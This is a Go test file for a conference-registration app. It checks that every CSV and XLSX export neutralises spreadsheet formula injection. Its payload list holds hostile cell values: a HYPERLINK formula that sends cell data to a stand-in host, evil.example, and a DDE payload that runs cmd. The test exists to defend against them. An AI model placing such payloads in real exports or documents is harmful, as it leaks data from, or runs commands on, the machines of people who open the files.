package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"convene/internal/convene"
)

// formulaPayloads are cell values a spreadsheet would run as a formula (or
// as DDE), each after a name in one of the five scripts so that they pass
// the name rules: the export must hand every one of them over as text.
var formulaPayloads = []string{
	"=1+1",
	`=HYPERLINK("http://evil.example/?q="&A1,"Nguyễn")`,
	"+SUM(1,2)",
	"-2+3",
	"@SUM(A1)",
	"\t=1+1",
	"\r=cmd|' /C calc'!A0",
}

// formulaCells returns the cells a spreadsheet would read as a formula: a
// leading =, +, -, @, tab or carriage return.
func formulaCells(rows [][]string) []string {
	var out []string
	for _, row := range rows {
		for _, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				out = append(out, c)
			}
		}
	}
	return out
}

// readExport parses a CSV or XLSX download into rows, and reports any XLSX
// cell that holds a formula.
func readExport(t *testing.T, path string, body []byte) (rows [][]string, formulas []string) {
	t.Helper()
	if strings.HasSuffix(path, ".csv") {
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF"))))
		r.FieldsPerRecord = -1
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("%s: not CSV: %v", path, err)
		}
		return rows, nil
	}
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("%s: not XLSX: %v", path, err)
	}
	defer f.Close()
	for _, sheet := range f.GetSheetList() {
		rs, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rs {
			for c := range row {
				cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fm, _ := f.GetCellFormula(sheet, cell); fm != "" {
					formulas = append(formulas, sheet+"!"+cell+": "+fm)
				}
			}
		}
		rows = append(rows, rs...)
	}
	return rows, formulas
}

// TestExportsNeutraliseFormulas stores formula payloads through the forms
// (nomination: names, honorific, badge name, position, dietary and medical
// notes; a room block's type; a room number), accredits and lodges the
// people, then downloads every CSV and XLSX route of the route table (a new
// export route is covered, or the test fails): no cell starts with =, +, -,
// @, tab or CR, no XLSX cell holds a formula, and the payloads are there,
// neutralised with a leading apostrophe.
//
// Control: the same payload rows through a plain CSV writer must be caught.
func TestExportsNeutraliseFormulas(t *testing.T) {
	app := newTestApp(t)
	ctx := context.Background()
	focal := app.as(convene.RoleFocal)
	admin := app.as(convene.RoleAdmin)
	names := []string{"Nguyễn", "สมชาย", "ສົມພອນ", "សុខ", "အောင်"}
	var given []string
	focal.get(retreat + "/delegations/vnm/delegates/new")
	for i, p := range formulaPayloads {
		// Since issue 22 a one-line field refuses tabs and line breaks
		// (convene.CheckSingleLine): the tab- and CR-leading payloads go
		// into the multi-line medical notes as they are, and into the names
		// without their control character; that they are refused there is
		// checked below.
		single := strings.TrimLeft(p, "\t\r")
		f := nominee(single+" "+names[i%len(names)], single)
		f.Set("honorific", single)
		f.Set("badge_name", single)
		f.Set("position", single)
		f.Set("dietary", "other")
		f.Set("dietary_other", single)
		f.Set("medical", p)
		f.Set("mobile", "+84 912 345 67"+strconv.Itoa(i))
		f.Set("passport_number", fmt.Sprintf("F%07d", i))
		resp, body := focal.post(retreat+"/delegations/vnm/delegates/new", f)
		if resp.StatusCode != http.StatusSeeOther {
			t.Fatalf("nominate %q: status %d\n%.600s", p, resp.StatusCode, body)
		}
		given = append(given, strings.TrimSpace(single+" "+names[i%len(names)]))
		if single != p {
			f = nominee(p+" "+names[i%len(names)], single)
			f.Set("passport_number", fmt.Sprintf("G%07d", i))
			if resp, _ := focal.post(retreat+"/delegations/vnm/delegates/new", f); resp.StatusCode != http.StatusUnprocessableEntity {
				t.Errorf("given name %q in a one-line field: status %d, want 422", p, resp.StatusCode)
			}
		}
	}
	focal.get(retreat + "/delegations/vnm")
	if resp, _ := focal.post(retreat+"/delegations/vnm/submit", nil); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("submit: %d", resp.StatusCode)
	}

	// Accredit those holding a place; lodge one in a block whose room type
	// and room number are payloads too.
	m, err := app.db.FindMeetingByCode(ctx, "admm-retreat-2025")
	if err != nil {
		t.Fatal(err)
	}
	regs, _, err := app.db.FindRegistrations(ctx, convene.RegistrationFilter{MeetingID: m.ID, Limit: 5000})
	if err != nil {
		t.Fatal(err)
	}
	var holder convene.Registration
	accredit := url.Values{}
	for _, p := range regs {
		if slices.Contains(given, p.GivenName) && p.Status == convene.RegSubmitted {
			accredit.Add("id", strconv.FormatInt(p.ID, 10))
			holder = p
		}
	}
	if holder.ID == 0 {
		t.Fatal("nobody nominated here holds a place")
	}
	admin.get(retreat + "/accreditation")
	if resp, body := admin.post(retreat+"/accreditation", accredit); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("accredit: %d\n%.600s", resp.StatusCode, body)
	}
	blocks, err := app.db.FindRoomBlocks(ctx, m.ID)
	if err != nil || len(blocks) == 0 {
		t.Fatalf("no room blocks: %v", err)
	}
	hotel := blocks[0].HotelID
	admin.get(retreat + "/hotels")
	if resp, body := admin.post(retreat+"/hotels/blocks", url.Values{"hotel_id": {strconv.FormatInt(hotel, 10)},
		"room_type": {formulaPayloads[1]}, "rank": {"8"}, "occupancy": {"2"}, "room_count": {"2"},
		"first_night": {"2025-02-25"}, "last_night": {"2025-02-26"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("room block: %d\n%.600s", resp.StatusCode, body)
	}
	blocks, _ = app.db.FindRoomBlocks(ctx, m.ID)
	var block convene.RoomBlock
	for _, b := range blocks {
		if b.RoomType == formulaPayloads[1] {
			block = b
		}
	}
	admin.get(retreat + "/hotels")
	if resp, body := admin.post(retreat+"/hotels/assign", url.Values{"delegate_id": {strconv.FormatInt(holder.ID, 10)},
		"block_id": {strconv.FormatInt(block.ID, 10)}, "room_label": {"=1+1"},
		"check_in": {"2025-02-25"}, "check_out": {"2025-02-27"}}); resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("room assignment: %d\n%.600s", resp.StatusCode, body)
	}

	// Every export route of the route table.
	params := strings.NewReplacer(":code", "admm-retreat-2025", ":hotel", strconv.FormatInt(hotel, 10), ":country", "vnm")
	exports, cells := 0, 0
	for _, r := range app.srv.Routes() {
		if r.Method != http.MethodGet || !(strings.HasSuffix(r.Path, ".csv") || strings.HasSuffix(r.Path, ".xlsx")) {
			continue
		}
		path := params.Replace(r.Path)
		if strings.Contains(path, ":") {
			t.Errorf("%s: the test does not know how to fill this export's parameters; add them", r.Path)
			continue
		}
		resp, body := admin.get(path)
		if resp.StatusCode != http.StatusOK {
			t.Errorf("%s: status %d", path, resp.StatusCode)
			continue
		}
		rows, formulas := readExport(t, path, []byte(body))
		if len(formulas) > 0 {
			t.Errorf("%s: cells hold formulas: %q", path, formulas)
		}
		// The nomination template holds no user data, only Convene's own
		// header and hints (a hint shows a mobile number as "+84 ..."), in
		// text cells; it is checked for formulas only.
		template := strings.HasSuffix(r.Path, "/template.xlsx")
		if bad := formulaCells(rows); len(bad) > 0 && !template {
			t.Errorf("%s: %d cells would run as formulas: %q", path, len(bad), bad)
		}
		neutralised := 0
		for _, row := range rows {
			for _, c := range row {
				cells++
				for _, p := range formulaPayloads {
					if strings.HasPrefix(c, "'"+p) {
						neutralised++
						break
					}
				}
			}
		}
		// Every export but the template must carry the payloads, or this
		// test proves nothing about it.
		if neutralised == 0 && !template {
			t.Errorf("%s: none of the payloads is in the export", path)
		}
		exports++
	}
	if exports < 5 {
		t.Errorf("only %d export routes found", exports)
	}

	// Control: the payloads through a writer that does not neutralise.
	var raw bytes.Buffer
	w := csv.NewWriter(&raw)
	for _, p := range formulaPayloads {
		_ = w.Write([]string{"Viet Nam", p})
	}
	w.Flush()
	control, _ := readExport(t, "control.csv", raw.Bytes())
	caught := len(formulaCells(control))
	if caught != len(formulaPayloads) {
		t.Errorf("control: %d of %d raw formula cells caught", caught, len(formulaPayloads))
	}
	fmt.Printf("formula cells: %d payloads through the forms, %d CSV/XLSX exports (%d cells): 0 cells read as formulas, 0 formulas; control (plain CSV writer): %d/%d caught\n",
		len(formulaPayloads), exports, cells, caught, len(formulaPayloads))
}
